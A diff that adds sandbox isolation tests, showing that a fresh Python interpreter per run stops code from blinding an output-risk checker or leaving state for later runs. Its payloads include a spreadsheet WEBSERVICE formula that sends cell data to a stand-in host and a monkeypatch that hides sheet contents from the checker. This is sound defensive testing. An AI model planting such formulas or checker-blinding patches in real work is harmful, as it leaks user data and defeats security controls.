@@ -1,0 +1,105 @@
+/**
+ * Every run gets a fresh interpreter (SandboxClient's default policy), for real:
+ * Pyodide in the locked-down Node child process. Code can change a library's
+ * classes in ways no wall sees; here it tries to blind the check of its own
+ * outputs (src/ui/output-risks.ts) and to leave a mark for the next run.
+ * The same runs with one interpreter kept between runs show the harm is real,
+ * so these tests would fail if the replacement stopped happening.
+ */
+import { afterAll, describe, expect, it } from 'vitest';
+import type { RunResult } from '../../workers/api';
+import { prepareNodeSandbox, spawnNodeSandbox } from '../../workers/node/spawn-sandbox';
+import { SandboxClient } from '../../src/sandbox/sandbox-client';
+import { checkOutputs } from '../../src/ui/output-risks';
+import { startedNodeSandbox } from '../helpers/node-sandbox';
+
+const LONG = 180_000;
+
+/** Writes a workbook with a WEBSERVICE formula, then makes every read-only sheet look empty. */
+const HIDE_RISK = [
+  'import openpyxl',
+  'wb = openpyxl.Workbook()',
+  `wb.active["A1"] = '=WEBSERVICE("https://prices.example/?q="&B1)'`,
+  'wb.save("/output/hidden.xlsx")',
+  'ro = openpyxl.load_workbook("/output/hidden.xlsx", read_only=True)',
+  'type(ro.active).iter_rows = lambda self, *a, **k: iter(())',
+  'print("tampered")',
+].join('\n');
+
+/** Two marks in the interpreter: a class attribute and an entry in csv's dialect registry. */
+const LEAVE_MARK = [
+  'import csv, openpyxl',
+  'type(openpyxl.Workbook()).left_behind = "mark"',
+  'csv.register_dialect("left-behind", delimiter=";")',
+  'print("marked")',
+].join('\n');
+
+const READ_MARK = [
+  'import csv, openpyxl',
+  'try:',
+  '    mark = openpyxl.Workbook().left_behind',
+  'except AttributeError:',
+  '    mark = "absent"',
+  'print(mark, "left-behind" in csv.list_dialects())',
+].join('\n');
+
+const clients: SandboxClient[] = [];
+afterAll(() => clients.forEach((c) => c.dispose()));
+
+async function sandbox(freshPythonPerRun: boolean): Promise<SandboxClient> {
+  const client = freshPythonPerRun
+    ? await startedNodeSandbox()
+    : new SandboxClient(spawnNodeSandbox, (await prepareNodeSandbox()).startOptions, undefined, undefined, undefined, { freshPythonPerRun: false });
+  clients.push(client);
+  return client;
+}
+
+function stdoutOf(result: RunResult): string {
+  if (!result.ok) throw new Error(`${result.error.kind}: ${result.error.message}`);
+  return result.stdout.trim();
+}
+
+describe('a fresh interpreter for every run (the default)', () => {
+  it('a run cannot blind the check of its own outputs', async () => {
+    const client = await sandbox(true);
+    const run = await client.run({ code: HIDE_RISK, inputs: [] });
+    expect(stdoutOf(run)).toBe('tampered');
+    const began = Date.now();
+    const risks = await checkOutputs(client, run.ok ? run.outputs : []);
+    console.log(`check after a run, waiting for the fresh interpreter: ${Date.now() - began} ms`);
+    expect(risks).toEqual({ state: 'checked', byFile: { 'hidden.xlsx': [expect.stringMatching(/^1 formula in hidden\.xlsx may reach the network.*Sheet!A1 \(WEBSERVICE\)/)] } });
+  }, LONG);
+
+  it('a run leaves nothing in the interpreter for the next one', async () => {
+    const client = await sandbox(true);
+    expect(stdoutOf(await client.run({ code: LEAVE_MARK, inputs: [] }))).toBe('marked');
+    expect(stdoutOf(await client.run({ code: READ_MARK, inputs: [] }))).toBe('absent False');
+  }, LONG);
+
+  it('a run refused by the pre-check ran nothing, so the interpreter is kept', async () => {
+    const events: string[] = [];
+    const { startOptions } = await prepareNodeSandbox();
+    const client = new SandboxClient(spawnNodeSandbox, startOptions, (e) => events.push(e.type));
+    clients.push(client);
+    const starts = (): number => events.filter((e) => e === 'starting').length;
+    const refused = await client.run({ code: 'import socket', inputs: [] });
+    expect(refused.ok || refused.error.kind).toBe('precheck');
+    expect(starts()).toBe(1);
+    expect(stdoutOf(await client.run({ code: 'print(1)', inputs: [] }))).toBe('1');
+    // The first real run had the interpreter the refused one left; the next gets a fresh one, started at once.
+    expect(starts()).toBe(2);
+    // Routine replacements are not reported as restarts after a failure.
+    expect(events).not.toContain('restarting');
+  }, LONG);
+});
+
+describe('one interpreter kept between runs (freshPythonPerRun: false), to show what the default prevents', () => {
+  it('the tampered check finds nothing, and the marks are still there', async () => {
+    const client = await sandbox(false);
+    const run = await client.run({ code: HIDE_RISK, inputs: [] });
+    expect(stdoutOf(run)).toBe('tampered');
+    expect(await checkOutputs(client, run.ok ? run.outputs : [])).toEqual({ state: 'checked', byFile: { 'hidden.xlsx': [] } });
+    expect(stdoutOf(await client.run({ code: LEAVE_MARK, inputs: [] }))).toBe('marked');
+    expect(stdoutOf(await client.run({ code: READ_MARK, inputs: [] }))).toBe('mark True');
+  }, LONG);
+});
